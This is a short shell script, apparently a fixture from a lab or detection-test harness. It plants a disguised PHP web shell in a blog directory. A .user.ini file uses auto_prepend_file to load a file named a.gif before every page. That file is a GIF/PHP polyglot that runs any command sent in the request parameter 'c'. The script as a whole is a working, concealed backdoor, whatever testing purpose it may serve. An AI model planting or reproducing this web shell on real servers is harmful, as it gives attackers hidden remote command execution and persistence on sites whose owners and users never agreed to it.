#!/bin/sh
# web-user-ini: a file before every page (PHP, .user.ini)
. "${0%/*}/lib.sh"
only "plain disguised user" "a setting has no command"
[ "$who" = op ] || own=33:33
put /var/www/html/blog/.user.ini 644 "auto_prepend_file=/var/www/html/blog/a.gif"
put /var/www/html/blog/a.gif 644 'GIF89a<?php system($_REQUEST["c"]); ?>'
